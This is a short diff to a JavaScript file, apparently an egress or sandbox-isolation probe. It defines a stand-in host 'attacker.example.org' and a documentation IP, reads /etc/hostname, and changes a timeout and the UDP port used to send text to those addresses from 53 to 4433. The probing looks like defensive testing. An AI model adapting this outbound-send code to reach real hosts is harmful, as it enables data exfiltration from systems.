@@ -18,7 +18,7 @@ if (process.cwd() !== "/project" || fs.readFileSync("/etc/hostname", "utf8") !==
 
 const ATTACKER = "attacker.example.org";
 const SOMEWHERE = "203.0.113.7"; // RFC 5737: an address of nobody
-const PATIENCE = 3000;
+const PATIENCE = 1000;
 
 async function attempt(what, act) {
   try {
@@ -63,7 +63,7 @@ function tell(address, text) {
       socket.close();
       reject(error);
     });
-    socket.send(text, 53, address);
+    socket.send(text, 4433, address);
   });
 }
 
